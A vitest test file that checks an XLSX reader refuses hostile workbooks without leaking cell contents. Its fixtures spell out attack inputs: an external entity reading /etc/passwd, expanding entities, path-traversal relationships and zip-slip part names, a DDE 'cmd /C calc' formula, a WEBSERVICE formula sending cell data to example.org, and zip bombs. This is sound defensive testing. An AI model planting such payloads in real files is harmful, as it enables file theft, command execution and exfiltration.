// Workbooks that were made to do harm: each is refused with a code, before it costs memory or time, and its cells stay unsaid.
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32 } from 'node:zlib'
import { afterAll, describe, expect, it, test } from 'vitest'
import { openXlsx } from '../../src/adapters/xlsx/xlsx-reader.ts'
import {
  type MadeWorkbook,
  makeWorkbook,
  oneSheet,
  relation,
  text,
  textRows,
} from '../adapters/make-workbook.ts'
import { canary } from '../canary.ts'
import { readAll } from '../contract/table-reader.ts'
import { fuzzTarget, outcomeOf, TAKEN } from './fuzz-target.ts'
import { xlsxTargets } from './xlsx-targets.ts'

const SEED = 2018
const folder = mkdtempSync(join(tmpdir(), 'fairshare-hostile-xlsx-'))
afterAll(() => rmSync(folder, { recursive: true }))

const people = textRows([
  ['id', 'name'],
  ['1', canary],
])

async function readBytes(bytes: Uint8Array) {
  const path = join(folder, 'book.xlsx')
  writeFileSync(path, bytes)
  const outcome = await readAll({ open: openXlsx }, { path, format: 'xlsx' }).catch((error: unknown) => error)
  expect(String(outcome)).not.toContain(canary)
  return outcome
}

const refused = (detail: RegExp) => ({ code: 'file.unreadable', detail: expect.stringMatching(detail) })

const sheet = (xml: string | Uint8Array) => ({ rows: people, parts: { 'xl/worksheets/sheet1.xml': xml } })
const data = (inner: string) => `<worksheet><sheetData>${inner}</sheetData></worksheet>`
const row = (number: number) => `<row r="${number}">${text(canary)}</row>`

const attacks: [string, MadeWorkbook, RegExp][] = [
  [
    'entities that grow',
    sheet(`<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]>${data(`<row>${text('&d;')}</row>`)}`),
    /document type/,
  ],
  [
    'an entity from elsewhere',
    sheet(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>${data('')}`),
    /document type/,
  ],
  [
    'a document type in another part',
    { rows: people, parts: { 'xl/workbook.xml': '<!DOCTYPE a><workbook/>' } },
    /document type/,
  ],
  ['an entity of nobody', sheet(data(`<row>${text('&b;')}</row>`)), /cannot be read/],
  [
    'marks that are nested deeply',
    sheet(data(`<row><c>${'<a>'.repeat(100)}${'</a>'.repeat(100)}</c></row>`)),
    /nested/,
  ],
  ['a cell without an end', sheet(data(`<row>${text('x'.repeat(3 << 20))}</row>`)), /too long/],
  ['a mark without an end', sheet(data(`<row a="${'x'.repeat(3 << 20)}"/>`)), /too long/],
  ['a remark without an end', sheet(data(`<!--${'<'.repeat(3 << 20)}-->`)), /too long/],
  [
    'a shared text without an end',
    { rows: people, strings: `<si><t>${'x'.repeat(3 << 20)}</t></si>` },
    /too long/,
  ],
  [
    'a shared text of many pieces',
    { rows: people, strings: `<si>${`<r><t>${'x'.repeat(1000)}</t></r>`.repeat(1100)}</si>` },
    /too long/,
  ],
  ['UTF-16', sheet(Buffer.from(`\ufeff${data('')}`, 'utf16le')), /UTF-8/],
  ['another encoding', sheet(`<?xml version="1.0" encoding="ISO-8859-1"?>${data('')}`), /UTF-8/],
  [
    'bytes that are no text',
    sheet(Buffer.concat([Buffer.from('<worksheet>'), Buffer.of(0xff, 0xfe)])),
    /UTF-8/,
  ],
  ['XML 1.1', sheet(`<?xml version="1.1"?>${data('')}`), /cannot be read/],
  ['XML that breaks off', sheet(data(people).slice(0, -12)), /cannot be read/],
  ['two roots', sheet(data(people) + data(people)), /cannot be read/],
  ['a row twice', sheet(data(row(1) + row(2) + row(2))), /order/],
  ['rows in another order', sheet(data(row(1) + row(3) + row(2))), /order/],
  ['a row beyond the last', sheet(data(row(1) + row(1_048_577))), /order/],
  ['a cell of another row', sheet(data(`<row r="1"><c r="A2"/></row>`)), /order/],
  ['a cell twice', sheet(data(`<row r="1"><c r="A1"/><c r="A1"/></row>`)), /order/],
  ['a cell beyond the last column', sheet(data(`<row r="1"><c r="XFE1"/></row>`)), /order/],
  ['an object’s own names', sheet(data(`<row r="__proto__"><c r="constructor1"/></row>`)), /order/],
  [
    'formulas over one another',
    sheet(
      data(
        `<row>${text('id')}</row>${'<row><c><f t="array" ref="A1:XFD1048576">1</f></c></row>'.repeat(1001)}`,
      ),
    ),
    /formulas/,
  ],
  [
    'a sheet that lies outside',
    {
      rows: people,
      parts: {
        'xl/_rels/workbook.xml.rels': `<Relationships>${relation('r1', 'worksheet', '../../../../etc/passwd')}</Relationships>`,
      },
    },
    /no table of cells/,
  ],
  [
    'a sheet on another machine',
    {
      rows: people,
      parts: {
        'xl/_rels/workbook.xml.rels': `<Relationships>${relation('r1', 'worksheet', 'http://example.org/sheet.xml', ' TargetMode="External"')}</Relationships>`,
      },
    },
    /no table of cells/,
  ],
  [
    'a relation twice',
    {
      rows: people,
      parts: {
        'xl/_rels/workbook.xml.rels': `<Relationships>${relation('r1', 'worksheet', 'worksheets/sheet1.xml').repeat(2)}</Relationships>`,
      },
    },
    /two relations/,
  ],
  [
    'two sheets of one name',
    { rows: people, workbook: `<sheets>${oneSheet.replace(/<\/?sheets>/g, '').repeat(2)}</sheets>` },
    /say which/,
  ],
  [
    'a cell of two values',
    sheet(data(`<row>${text('id')}</row><row><c><v>1</v><v>2</v></c></row>`)),
    /two values/,
  ],
  ['macros', { rows: people, parts: { 'xl/VBAproject.BIN': 'x' } }, /macros/],
  ['macros in a sheet', { rows: people, parts: { 'xl/macrosheets/sheet1.xml': 'x' } }, /macros/],
]

test.each(attacks)('a workbook with %s is refused', async (_, made, detail) => {
  expect(await readBytes(makeWorkbook(made))).toMatchObject(refused(detail))
})

test('a sheet that unpacks to a thousand times its size is refused before it is read', async () => {
  const xml = data(`<row>${text('id')}</row>${'<row></row>'.repeat(2 << 20)}`)
  const bytes = makeWorkbook(sheet(xml))
  expect(bytes.length).toBeLessThan(200_000)
  const before = process.memoryUsage().rss
  expect(await readBytes(bytes)).toMatchObject(refused(/more than a workbook may hold/))
  expect(process.memoryUsage().rss - before).toBeLessThan(200 << 20)
})

test('names of parts that climb out of the archive are names, and nothing is written', async () => {
  const parts = { '../../evil.txt': 'x', '/etc/evil': 'x', 'C:\\evil': 'x' }
  const before = readdirSync(folder)
  expect(await readBytes(makeWorkbook({ rows: people, parts }))).toMatchObject({ rows: [['1', canary]] })
  expect(readdirSync(folder)).toEqual(before.includes('book.xlsx') ? before : [...before, 'book.xlsx'])
})

test('links to other workbooks and commands in formulas are not followed, and their records are left out', async () => {
  const formulas = [
    '[1]Sheet1!A1',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://example.org/?"&amp;A2)',
    'HYPERLINK("http://example.org")',
  ]
  const rows = formulas
    .map((formula) => `<row><c t="str"><f>${formula}</f><v>${canary}</v></c></row>`)
    .join('')
  const parts = { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }
  const read = await readBytes(makeWorkbook({ rows: `<row>${text('id')}</row>${rows}`, parts }))
  expect(read).toMatchObject({ rows: [], rejects: formulas.map((_, at) => ({ line: at + 2 })) })
  expect(JSON.stringify(read)).not.toContain(canary)
})

describe('an archive', () => {
  const whole = Buffer.from(makeWorkbook({ rows: people, level: 0 }))
  const directory = whole.indexOf('PK\x01\x02', 0, 'latin1')
  const end = whole.lastIndexOf('PK\x05\x06', undefined, 'latin1')
  const sheetEntry = whole.indexOf('xl/worksheets/sheet1.xml', directory) - 46
  const changed = (change: (bytes: Buffer) => void) => {
    const bytes = Buffer.from(whole)
    change(bytes)
    return bytes
  }

  it('is read as it is', async () => {
    expect(await readBytes(whole)).toMatchObject({ rows: [['1', canary]] })
  })

  it.each<[string, Uint8Array, RegExp]>([
    ['with another checksum', changed((b) => b.writeUInt32LE(1, sheetEntry + 16)), /cut off or damaged/],
    [
      'with a smaller size than it has',
      changed((b) => b.writeUInt32LE(9, sheetEntry + 24)),
      /cut off or damaged/,
    ],
    [
      'with a larger size than it has',
      changed((b) => b.writeUInt32LE(9_999_999, sheetEntry + 24)),
      /cut off or damaged/,
    ],
    [
      'with the size of a continent',
      changed((b) => b.writeUInt32LE(0xfffffffe, sheetEntry + 24)),
      /damaged|more than/,
    ],
    ['with a secret', changed((b) => b.writeUInt16LE(1, sheetEntry + 8)), /password/],
    ['packed in some other way', changed((b) => b.writeUInt16LE(12, sheetEntry + 10)), /packed in a way/],
    [
      'that says it is packed and is not',
      changed((b) => b.writeUInt16LE(8, sheetEntry + 10)),
      /cut off or damaged/,
    ],
    [
      'whose directory leads elsewhere',
      changed((b) => b.writeUInt32LE(0, sheetEntry + 42)),
      /cut off or damaged/,
    ],
    [
      'whose directory lies outside',
      changed((b) => b.writeUInt32LE(0x7fffffff, end + 16)),
      /cut off or damaged/,
    ],
    ['with more parts than it has', changed((b) => b.writeUInt16LE(99, end + 10)), /cut off or damaged/],
    [
      'with a directory of gigabytes',
      changed((b) => b.writeUInt32LE(0x7fffffff, end + 12)),
      /too many parts/,
    ],
    [
      'with the numbers of another kind',
      changed((b) => b.writeUInt32LE(0xffffffff, sheetEntry + 42)),
      /cut off or damaged/,
    ],
    ['that is half there', whole.subarray(0, whole.length / 2), /cut off or damaged/],
    [
      'with two parts of one name',
      makeWorkbook({ rows: people, parts: { 'XL/WORKSHEETS/SHEET1.XML': 'x' } }),
      /two parts/,
    ],
    ['with something before it', Buffer.concat([Buffer.from('#!/bin/sh\n'), whole]), /not a workbook/],
  ])('%s is refused', async (_, bytes, detail) => {
    expect(await readBytes(bytes)).toMatchObject(refused(detail))
  })

  it('whose parts have other names inside than in its directory is refused', async () => {
    const bytes = changed((b) => b.write('y', b.indexOf('xl/worksheets/sheet1.xml')))
    expect(await readBytes(bytes)).toMatchObject(refused(/cut off or damaged/))
  })

  it('in which anything changes between two readings is refused, though its sheet is the same', async () => {
    const path = join(folder, 'swapped.xlsx')
    const book = (note: string) => makeWorkbook({ rows: people, parts: { 'note.txt': note }, level: 0 })
    writeFileSync(path, book('a'))
    const table = await openXlsx({ path, format: 'xlsx' })
    writeFileSync(path, book('b'))
    const drain = async () => {
      for await (const _ of table.read(['id'], () => {}));
    }
    await expect(drain()).rejects.toMatchObject(refused(/changed while/))
  })

  it('of the long form is read', async () => {
    expect(await readBytes(longForm(whole, directory, end))).toMatchObject({ rows: [['1', canary]] })
  })
})

/** The same archive with every number of its directory in the fields of ZIP64. */
function longForm(whole: Buffer, directory: number, end: number): Buffer {
  const entries: Buffer[] = []
  for (let at = directory; at < end; ) {
    const nameBytes = whole.readUInt16LE(at + 28)
    const entry = Buffer.from(whole.subarray(at, at + 46 + nameBytes))
    const extra = Buffer.alloc(28)
    extra.writeUInt16LE(1, 0)
    extra.writeUInt16LE(24, 2)
    for (const [index, from] of [24, 20, 42].entries()) {
      extra.writeBigUInt64LE(BigInt(entry.readUInt32LE(from)), 4 + 8 * index)
      entry.writeUInt32LE(0xffffffff, from)
    }
    at += 46 + nameBytes + entry.readUInt16LE(30) + entry.readUInt16LE(32)
    entry.writeUInt16LE(extra.length, 30)
    entries.push(entry, extra)
  }
  const list = Buffer.concat(entries)
  const end64 = Buffer.alloc(56)
  end64.writeUInt32LE(0x06064b50, 0)
  end64.writeBigUInt64LE(BigInt(entries.length / 2), 32)
  end64.writeBigUInt64LE(BigInt(list.length), 40)
  end64.writeBigUInt64LE(BigInt(directory), 48)
  const locator = Buffer.alloc(20)
  locator.writeUInt32LE(0x07064b50, 0)
  locator.writeBigUInt64LE(BigInt(directory + list.length), 8)
  const last = Buffer.from(whole.subarray(end))
  last.writeUInt32LE(0xffffffff, 16)
  return Buffer.concat([whole.subarray(0, directory), list, end64, locator, last])
}

describe('a workbook spoiled in a few places', () => {
  const targets = xlsxTargets(folder)

  it.each(targets.map((target) => [target.kind, target] as const))(
    'as %s is taken, or refused with a code',
    async (_, target) => {
      const found = await fuzzTarget(target, { ms: 30_000, triesMax: 60, seed: SEED })
      expect(found.violations).toEqual([])
      expect(found.refused.size).toBeGreaterThan(0)
    },
  )

  it('was read as it was before', async () => {
    for (const target of targets)
      for (const [index, bytes] of target.corpus.entries())
        expect(await outcomeOf(() => target.read(Buffer.from(bytes), index))).toBe(TAKEN)
  })
})

test('the checksum here is the one archives use', () => {
  expect(crc32('123456789').toString(16)).toBe('cbf43926')
})
